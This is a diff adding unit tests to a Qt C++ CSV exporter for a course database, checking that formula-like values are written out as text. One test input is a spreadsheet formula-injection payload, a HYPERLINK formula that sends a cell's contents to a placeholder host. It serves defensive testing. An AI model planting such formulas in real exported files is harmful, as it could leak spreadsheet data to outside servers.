@@ -41,6 +41,15 @@ private slots:
             << QStringList{"user"} << QList<QStringList>{{"x"}, {""}, {"y"}};
         QTest::newRow("one column, empty last value") << QStringList{"user"} << QList<QStringList>{{"x"}, {""}};
         QTest::newRow("header only") << QStringList{"num", "tekst"} << QList<QStringList>{};
+        QTest::newRow("formulas, numbers and apostrophes") << QStringList{"=field", "note"}
+                                                           << QList<QStringList>{{"=1+1", "+7 701 555 01 01"},
+                                                                                 {"-5", "+3.5"},
+                                                                                 {"-x", "@SUM(A1:A3)"},
+                                                                                 {"'=kept", "''=two"},
+                                                                                 {"'plain", "'"},
+                                                                                 {"=", "-"},
+                                                                                 {"\tTab", "'-5"},
+                                                                                 {"=\"a,b\"", "'"}};
     }
     void writtenCsvReadsBackTheSame() {
         QFETCH(QStringList, fields);
@@ -50,6 +59,48 @@ private slots:
         const coursedb::Table back = coursedb::ParseCsv(QStringLiteral("t"), QString::fromUtf8(csv));
         QCOMPARE(back.fields, fields);
         QCOMPARE(back.rows, rows);
+    }
+
+    // A value a spreadsheet would run as a formula is written with an apostrophe before it; a plain
+    // number is not, and a value that begins with an apostrophe before such a character gets another.
+    void formulasAreWrittenAsText() {
+        const coursedb::Table table{"t",
+                                    {"v"},
+                                    {{"=HYPERLINK(\"http://x/?\"&A1)"},
+                                     {"+7 701"},
+                                     {"-2+3"},
+                                     {"@SUM(A1)"},
+                                     {"\t=1"},
+                                     {"-5"},
+                                     {"+3.5"},
+                                     {"'=1"},
+                                     {"'x"},
+                                     {"a=1"}}};
+        QCOMPARE(coursedb::WriteCsv(table), QByteArray("v\r\n"
+                                                       "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\"\r\n"
+                                                       "'+7 701\r\n"
+                                                       "'-2+3\r\n"
+                                                       "'@SUM(A1)\r\n"
+                                                       "'\t=1\r\n"
+                                                       "-5\r\n"
+                                                       "+3.5\r\n"
+                                                       "''=1\r\n"
+                                                       "'x\r\n"
+                                                       "a=1\r\n"));
+    }
+
+    // Through the program: such values go out as text and come back into the database unchanged.
+    void formulasComeBackUnchanged() {
+        QTemporaryDir dir;
+        const QString db = dir.filePath("test.db");
+        const QList<QStringList> rows{{"=1+1", "-5"}, {"'=kept", "@x"}, {"-", "''+y"}};
+        coursedb::WriteDatabase(db, {coursedb::Table{"notes", {"a", "b"}, rows}});
+        const QString csv = dir.filePath("notes.csv");
+        QCOMPARE(RunCoursedb({"export-csv", db, "notes", csv}).exitCode, 0);
+        QCOMPARE(FileBytes(csv), QByteArray("a,b\r\n'=1+1,-5\r\n''=kept,'@x\r\n'-,'''+y\r\n"));
+        const CoursedbRun back = RunCoursedb({"import-csv", "--force", csv, db});
+        QVERIFY2(back.exitCode == 0, qPrintable(back.err));
+        QCOMPARE(QueryRows(db, "SELECT a, b FROM notes"), QStringList({"=1+1|-5", "'=kept|@x", "-|''+y"}));
     }
 
     // Through the program and the database: a bank exported, edited in a spreadsheet and imported
